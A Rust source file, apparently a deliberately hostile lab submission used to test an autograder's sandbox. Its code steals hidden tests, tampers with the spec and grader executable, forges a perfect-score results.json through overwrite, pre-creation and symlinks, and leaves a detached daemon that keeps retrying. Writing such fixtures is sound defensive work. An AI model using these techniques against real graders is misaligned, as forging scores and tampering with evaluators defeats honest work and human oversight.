//! A hw1 submission that attacks the grading instead of doing the lab.
//!
//! The build script (which includes this file as a module) and both
//! programs call [`attack`]: each attack is tried once and reported as one
//! line, `hostile <who> <attack>: <outcome>`, where the outcome is `DONE`
//! or `refused: <os error>`. The programs print the build script's lines,
//! then their own, and exit 1 without doing the lab's work: an honest grade
//! is 0. `../bin/hostile.py` tries the same attacks from `--bin-dir`
//! programs.
//!
//! The targets come from the environment, which the grader passes on (a
//! test sets them; an attack whose variable is unset is `not tried`):
//! - `HOSTILE_HIDDEN`: the hidden tests, read and copied to a file of ours;
//! - `HOSTILE_SPEC`: the lab's spec.yaml, a line appended;
//! - `HOSTILE_GRADER`: the grader's executable, opened for writing, and a
//!   file of ours renamed over it;
//! - `HOSTILE_RESULTS`: results.json, written, pre-created, made a symlink
//!   to a file of ours.
//!
//! A process is left behind to try again later, and the network is only
//! looked at (`/proc/net`): nothing here sends a packet.

// The build script uses only part of this file.
#![allow(dead_code)]

use std::fs::{self, OpenOptions};
use std::io::{self, Write};
use std::net::Ipv4Addr;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, ExitCode, Stdio};
use std::time::{Duration, Instant};

/// What a forged results.json says.
const FAKE: &str = "{\"score\": 100.0, \"output\": \"hostile\", \"tests\": []}\n";

/// The first argument of the executable re-started as the launcher, which
/// starts the daemon and exits at once.
const LAUNCHER: &str = "--hostile-launcher";
/// The first argument of the executable re-started as the daemon.
const DAEMON: &str = "--hostile-daemon";

/// What `server` and `client` do: print the build script's lines (joined
/// by `|`) and their own, then exit 1.
pub fn program(who: &str, build_lines: &str) -> ExitCode {
    if let Some(code) = daemon_requested() {
        return code;
    }
    let mut lines: Vec<String> = build_lines.split('|').map(String::from).collect();
    lines.extend(attack(who));
    println!("{}", lines.join("\n"));
    ExitCode::from(1)
}

/// When this executable was re-started as the launcher or the daemon,
/// plays that part and returns its exit status.
pub fn daemon_requested() -> Option<ExitCode> {
    match std::env::args().nth(1).as_deref() {
        Some(LAUNCHER) => Some(match start_self(DAEMON) {
            Ok(_) => ExitCode::SUCCESS,
            Err(_) => ExitCode::FAILURE,
        }),
        Some(DAEMON) => {
            daemon();
            Some(ExitCode::SUCCESS)
        }
        _ => None,
    }
}

/// Tries every attack once, as `who`; one line for each.
pub fn attack(who: &str) -> Vec<String> {
    let mut lines = file_attacks(who);
    lines.push(format!(
        "hostile {who} leave-process: {}",
        outcome(leave_process())
    ));
    let network = network().unwrap_or_else(|e| format!("refused: {e}"));
    lines.push(format!("hostile {who} network: {network}"));
    lines
}

fn outcome(result: io::Result<()>) -> String {
    match result {
        Ok(()) => "DONE".to_string(),
        Err(e) => format!("refused: {e}"),
    }
}

/// An attack on a file: the file its variable names, and who attacks.
type Attempt = fn(&Path, &str) -> io::Result<()>;

/// The attacks on files, each with the variable that names its target: the
/// daemon tries them again and again.
const FILE_ATTACKS: [(&str, &str, Attempt); 7] = [
    ("read-hidden", "HOSTILE_HIDDEN", read_hidden),
    ("write-spec", "HOSTILE_SPEC", write_spec),
    ("write-grader", "HOSTILE_GRADER", write_grader),
    ("rename-grader", "HOSTILE_GRADER", rename_over_grader),
    ("write-results", "HOSTILE_RESULTS", write_results),
    ("precreate-results", "HOSTILE_RESULTS", precreate_results),
    ("symlink-results", "HOSTILE_RESULTS", symlink_results),
];

fn file_attacks(who: &str) -> Vec<String> {
    FILE_ATTACKS
        .iter()
        .map(|(attack, var, attempt)| {
            let result = match std::env::var_os(var) {
                Some(path) => outcome(attempt(Path::new(&path), who)),
                None => format!("not tried ({var} is unset)"),
            };
            format!("hostile {who} {attack}: {result}")
        })
        .collect()
}

/// Reads the hidden tests; a copy in the current directory shows they left.
fn read_hidden(path: &Path, who: &str) -> io::Result<()> {
    let text = fs::read(path)?;
    fs::write(
        format!("hidden-copy-{who}-{}.yaml", std::process::id()),
        text,
    )
}

fn write_spec(path: &Path, _: &str) -> io::Result<()> {
    let mut spec = OpenOptions::new().append(true).open(path)?;
    spec.write_all(b"# hostile: this line was added by the submission\n")
}

/// Opening is the attack (a write would follow); nothing is truncated.
/// A running executable refuses it with ETXTBSY even to root.
fn write_grader(path: &Path, _: &str) -> io::Result<()> {
    OpenOptions::new().write(true).open(path).map(drop)
}

/// rename(2) works within one file system: our file goes beside the grader.
fn rename_over_grader(path: &Path, _: &str) -> io::Result<()> {
    let mine = path.with_file_name(format!(".hostile-grader-{}", std::process::id()));
    fs::write(&mine, "#!/bin/sh\necho hostile grader\n")?;
    fs::rename(&mine, path).inspect_err(|_| {
        let _ = fs::remove_file(&mine);
    })
}

fn write_results(path: &Path, _: &str) -> io::Result<()> {
    fs::write(path, FAKE)
}

/// Whatever is there goes first; then the file is ours, created exclusively.
fn precreate_results(path: &Path, _: &str) -> io::Result<()> {
    remove_if_there(path)?;
    let mut file = OpenOptions::new().write(true).create_new(true).open(path)?;
    file.write_all(FAKE.as_bytes())
}

/// A symlink to a file of ours: a grader that follows it writes there.
fn symlink_results(path: &Path, who: &str) -> io::Result<()> {
    let mine = std::env::current_dir()?.join(format!("results-{who}-{}.json", std::process::id()));
    fs::write(&mine, FAKE)?;
    remove_if_there(path)?;
    std::os::unix::fs::symlink(&mine, path)
}

fn remove_if_there(path: &Path) -> io::Result<()> {
    match fs::remove_file(path) {
        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
        other => other,
    }
}

/// A double fork, as daemon(3) does: this process starts a launcher and
/// waits for it; the launcher starts the daemon and exits at once, so the
/// daemon has no parent left to wait for it. std has no setsid(2): a
/// process group of its own is what lets the daemon escape a kill of our
/// group. It has no stdin, stdout or stderr, so nothing waits for its pipes
/// to close, and it keeps our environment (HOSTILE_MARK with it).
fn leave_process() -> io::Result<()> {
    let status = start_self(LAUNCHER)?.wait()?;
    if status.success() {
        Ok(())
    } else {
        Err(io::Error::other(format!("the launcher failed: {status}")))
    }
}

/// This executable again, with `part` as its first argument, in a process
/// group of its own and without stdin, stdout or stderr.
fn start_self(part: &str) -> io::Result<std::process::Child> {
    Command::new(std::env::current_exe()?)
        .arg(part)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .process_group(0)
        .spawn()
}

/// The process left behind: tries every attack on a file again, every
/// 100 ms for at most 60 s, with nobody to report to.
fn daemon() {
    let end = Instant::now() + Duration::from_secs(60);
    for _ in 0..600 {
        if Instant::now() >= end {
            break;
        }
        file_attacks("daemon");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The interfaces of /proc/net/dev and the routes of /proc/net/route, as
/// `lo,eth0; routes: eth0 0.0.0.0/0,eth0 192.0.2.0/24` (`none` for none).
fn network() -> io::Result<String> {
    let dev = fs::read_to_string("/proc/net/dev")?;
    let names: Vec<&str> = dev
        .lines()
        .skip(2)
        .filter_map(|l| Some(l.split_once(':')?.0.trim()))
        .collect();
    let route = fs::read_to_string("/proc/net/route")?;
    // Iface Destination Gateway Flags RefCnt Use Metric Mask ..., in hex
    // of the kernel's byte order.
    let routes: Vec<String> = route
        .lines()
        .skip(1)
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            let dest = u32::from_str_radix(f.get(1)?, 16).ok()?;
            let mask = u32::from_str_radix(f.get(7)?, 16).ok()?;
            let dest = Ipv4Addr::from(dest.to_le_bytes());
            Some(format!("{} {dest}/{}", f[0], mask.count_ones()))
        })
        .collect();
    let or_none = |s: String| if s.is_empty() { "none".to_string() } else { s };
    Ok(format!(
        "{}; routes: {}",
        or_none(names.join(",")),
        or_none(routes.join(","))
    ))
}
